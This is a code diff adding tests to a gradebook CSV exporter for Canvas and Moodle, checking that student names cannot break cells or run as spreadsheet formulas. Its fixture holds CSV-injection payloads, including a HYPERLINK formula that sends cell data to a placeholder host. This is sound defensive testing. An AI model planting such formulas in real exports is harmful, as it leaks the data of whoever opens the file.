@@ -23,6 +23,7 @@ from course.assessment.lms import (
     canvas_rows,
     class_grades,
     days_late,
+    inert,
     main,
     moodle_rows,
     note_rows,
@@ -201,3 +202,49 @@ def test_command_refuses_a_folder_without_a_gradebook(tmp_path, capsys):
         main(args)
     assert "no gradebook at sqlite:///" in capsys.readouterr().err
     assert not (tmp_path / "gradebook.db").exists()  # nbgrader would have made an empty one
+
+
+HOSTILE = {
+    "ada": {"first_name": "Ada", "last_name": "Lovelace", "email": "ada@example.org"},
+    "eve": {"first_name": '=HYPERLINK("http://x.example/?"&C3,"Eve")', "email": "@SUM(1+1)",
+            "last_name": 'Doe, "Jr."\nIII'},
+    "+mal": {"first_name": "-2+3", "last_name": "\tTab", "email": "\r=1"},
+}  # fmt: skip
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")
+
+
+@pytest.mark.parametrize("layout", ["canvas", "moodle"])
+def test_names_can_neither_break_the_file_nor_run_as_formulas(layout, tmp_path):
+    """Names, ids and emails are the students' own text (LMS profiles, roster imports): a comma,
+    quote or line break stays inside its cell, and text a spreadsheet would read as a formula
+    (OWASP ASVS 1.2.10) starts with an apostrophe; a score stays a number."""
+    course = tmp_path / "course"
+    course.mkdir()
+    grades = {("quiz01", s): {"a": 1} for s in HOSTILE}
+    build_gradebook(course / "gradebook.db", {"quiz01": {"a": 1}}, HOSTILE, grades)
+    (course / "nbgrader_config.py").write_text(
+        f"c = get_config()\nc.CourseDirectory.course_id = {COURSE_ID!r}\n"
+    )
+    out = tmp_path / "out.csv"
+    assert main([layout, "--out", str(out), "--course", str(course)]) == 0
+    rows = list(csv.reader(out.open(newline="", encoding="utf-8")))
+    rows = [r for r in rows if r[0] != "Points Possible"]
+    assert len(rows) == 1 + len(HOSTILE) and len({len(r) for r in rows}) == 1
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c.startswith(FORMULA_START)]
+    eve = HOSTILE["eve"]
+    if layout == "moodle":
+        by_id = {r[2]: r for r in rows[1:]}
+        assert by_id["eve"][:2] == ["'" + eve["first_name"], eve["last_name"]]
+        assert by_id["'+mal"][:6] == ["'-2+3", "'\tTab", "'+mal", "", "", "'\r=1"]
+    else:
+        by_id = {r[1]: r for r in rows[1:]}
+        assert by_id["eve"][0] == f"{eve['last_name']}, {eve['first_name']}"
+        assert by_id["'+mal"][0] == "'\tTab, -2+3"
+    assert [r[-1] for r in rows[1:]] == ["1.00"] * len(HOSTILE)
+
+
+def test_numbers_stay_numbers_and_every_formula_start_is_neutralised():
+    assert [inert(c) for c in ("-1.50", "+2", "0.00", "Ada")] == ["-1.50", "+2", "0.00", "Ada"]
+    starts = ["=1", "+a", "-a", "@a", "\ta", "\ra", "\0a"]
+    assert [inert(c) for c in starts] == ["'" + c for c in starts]
